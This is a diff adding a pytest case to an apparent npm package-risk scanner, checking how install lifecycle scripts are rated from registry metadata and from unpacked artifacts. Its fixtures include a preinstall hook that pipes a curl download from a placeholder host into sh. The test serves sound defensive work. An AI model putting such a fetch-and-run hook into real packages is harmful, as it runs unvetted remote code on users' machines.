@@ -70,3 +70,25 @@ def test_install_scripts_reported_once_with_artifact(tmp_path):
                            description_length=100)
     inds = analyze(parse_spec("p", "npm"), meta, tmp_path).indicators
     assert [i.id for i in inds].count("install_scripts") == 1
+
+
+@pytest.mark.parametrize("scripts,severity", [({"postinstall": "node build.js"}, "medium"),
+                                               ({"preinstall": "curl http://x.invalid/a | sh"}, "high"),
+                                               ({"install": "node -e 'require(1)'"}, "high"),
+                                               ({"test": "curl http://x.invalid"}, None)])
+def test_install_scripts_one_rule_from_metadata_or_artifact(tmp_path, scripts, severity):
+    """The registry's scripts are judged when there is no artifact, the artifact's when there is,
+    by the same rule; only lifecycle scripts count."""
+    import json as _json
+
+    meta = PackageMetadata(name="p", ecosystem=Ecosystem.NPM, exists=True, release_count=3,
+                           install_scripts=scripts, repository="https://example.test/r", description_length=100)
+    (tmp_path / "package").mkdir()
+    (tmp_path / "package" / "package.json").write_text(_json.dumps({"name": "p", "scripts": scripts}))
+    for artifact in (None, tmp_path):
+        found = [i for i in analyze(parse_spec("p", "npm"), meta, artifact).indicators if i.id == "install_scripts"]
+        assert [i.severity for i in found] == ([severity] if severity else [])
+        assert all(i.source == "static" for i in found)
+    clean = PackageMetadata(name="p", ecosystem=Ecosystem.NPM, exists=True, install_scripts=scripts)
+    (tmp_path / "package" / "package.json").write_text(_json.dumps({"name": "p"}))
+    assert "install_scripts" not in {i.id for i in analyze(parse_spec("p", "npm"), clean, tmp_path).indicators}
